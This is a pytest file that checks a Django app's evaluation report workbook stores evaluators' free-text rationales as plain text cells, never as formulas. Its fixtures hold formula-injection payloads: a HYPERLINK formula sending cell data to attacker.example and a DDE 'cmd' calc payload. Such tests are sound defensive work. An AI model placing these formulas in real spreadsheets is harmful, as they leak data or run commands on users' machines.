"""The evaluation report workbook: evaluators' and moderators' free text comes out as text, never as a formula."""

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from pegasus.evaluation import services
from tests.evaluation.conftest import moderate

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")'
COMMAND = "=cmd|' /C calc'!A0"


class TestReportWorkbook:
    def test_rationales_are_stored_as_text(self, client, scored):
        """A rationale a spreadsheet would run is a string cell holding the rationale exactly."""
        # given
        t = scored
        services.score_record(bid=t.alpha, criterion=t.tech, score=Decimal(50), rationale=COMMAND, by=t.ev1)
        moderate(t, t.alpha, t.tech, 100, rationale=HYPERLINK)
        moderate(t, t.beta, t.tech, 50)
        moderate(t, t.alpha, t.sv, 50, rationale="-1+1")
        moderate(t, t.beta, t.sv, 50)
        client.force_login(t.officer, backend="pegasus.core.backends.PegasusBackend")
        # when
        workbook = load_workbook(io.BytesIO(client.get(f"/tenders/lots/{t.lot.pk}/report.xlsx").content))
        # then
        originals = [r[4] for r in workbook["Original scores"].iter_rows(min_row=3)]
        moderated = [r[3] for r in workbook["Moderated scores"].iter_rows(min_row=3)]
        assert {(c.value, c.data_type) for c in originals if c.value in (COMMAND,)} == {(COMMAND, "s")}
        assert {(c.value, c.data_type) for c in moderated if c.value in (HYPERLINK, "-1+1")} == {
            (HYPERLINK, "s"),
            ("-1+1", "s"),
        }
        assert all(c.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for c in row)
